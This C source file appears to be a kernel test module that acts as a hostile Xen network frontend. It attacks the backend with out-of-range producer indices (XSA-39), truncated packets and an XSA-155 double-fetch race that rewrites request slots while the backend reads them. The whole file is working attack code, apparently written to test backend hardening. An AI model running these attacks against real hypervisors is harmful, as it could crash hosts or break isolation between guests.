// SPDX-License-Identifier: GPL-2.0
/*
 * xen-netfront-hostile: lies told with the rings' indices and slots. A
 * producer index a ring ahead or behind, a packet whose end never gets
 * published, and a request rewritten while the backend reads it (a
 * backend that reads a slot twice checks one value and uses another).
 */
#include <linux/jiffies.h>
#include <linux/kthread.h>
#include <linux/sched.h>

#include <xen/page.h>

#include "hostile.h"

#define HOSTILE_WAIT_MS		2000

static void hostile_honest(struct hostile *h, unsigned int n)
{
	while (n--)
		hostile_tx_frame(h);
	hostile_tx_push(h);
	hostile_tx_wait(h, HOSTILE_WAIT_MS);
}

/* XSA-39: more requests than the ring holds. */
int hostile_prod_jump(struct hostile *h)
{
	hostile_honest(h, 1);
	hostile_set_req_prod(&h->tx, h->tx_prod + h->tx.size + 17);
	hostile_kick(h);
	return 0;
}

/* XSA-39: the producer index moves back behind what was answered. */
int hostile_prod_back(struct hostile *h)
{
	hostile_honest(h, 4);
	hostile_set_req_prod(&h->tx, h->tx_prod - 3);
	hostile_kick(h);
	return 0;
}

/* The same lie on the RX ring; noticed when a packet comes for us. */
int hostile_rx_prod_jump(struct hostile *h)
{
	h->rx_frozen = true;
	hostile_set_req_prod(&h->rx, h->rx_prod + h->rx.size + 9);
	hostile_kick_rx(h);
	return 0;
}

/* The first slot of a three-slot packet, and nothing after it, ever. */
int hostile_truncated(struct hostile *h)
{
	hostile_honest(h, 1);
	hostile_tx_put(h, h->tx_ref[0], 0, XEN_NETTXF_more_data, 180);
	hostile_tx_push(h);
	return 0;
}

/*
 * XSA-155: publish an honest frame, then keep rewriting its slot between
 * two requests that are each valid on their own (60 bytes from one page,
 * 2 KiB from the middle of another) until the backend answers it, packet
 * after packet, for attack_ms. A backend that reads the slot once sends
 * one of the two; one that reads it twice may check the short one and
 * copy the long one.
 */
static bool hostile_flip(struct hostile *h, u32 idx,
			 const struct xen_netif_tx_request *a,
			 const struct xen_netif_tx_request *b)
{
	struct xen_netif_tx_request *slot = xnif_ring_req(&h->tx, idx);
	unsigned int i;

	for (i = 0; i < 4096; i++) {
		const struct xen_netif_tx_request *r = i & 1 ? b : a;

		WRITE_ONCE(slot->size, r->size);
		WRITE_ONCE(slot->offset, r->offset);
		WRITE_ONCE(slot->gref, r->gref);
		if ((u32)(READ_ONCE(*h->tx.rsp.prod) - idx) - 1 < h->tx.size)
			return true;
	}
	return false;
}

int hostile_double_fetch(struct hostile *h)
{
	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
	struct xen_netif_tx_request a = {
		.gref = h->tx_ref[0],
		.size = HOSTILE_FRAME_LEN,
	};
	struct xen_netif_tx_request b = {
		.gref = h->tx_ref[1],
		.offset = XEN_PAGE_SIZE / 2,
		.size = XEN_PAGE_SIZE / 2,
	};
	unsigned int sent = 0, answered = 0;

	hostile_honest(h, 1);
	while (time_before(jiffies, end) && !kthread_should_stop() &&
	       h->tx_prod - h->tx_cons < h->tx.size - 1) {
		u32 idx = h->tx_prod;

		a.id = idx & 0xffff;
		b.id = a.id;
		hostile_tx_put_req(h, &a);
		hostile_tx_push(h);
		sent++;
		answered += hostile_flip(h, idx, &a, &b);
		hostile_tx_reap(h);
		cond_resched();
	}
	pr_warn("%s: double_fetch: %u packets rewritten, %u answered while rewriting\n",
		h->dev->nodename, sent, answered);
	return 0;
}
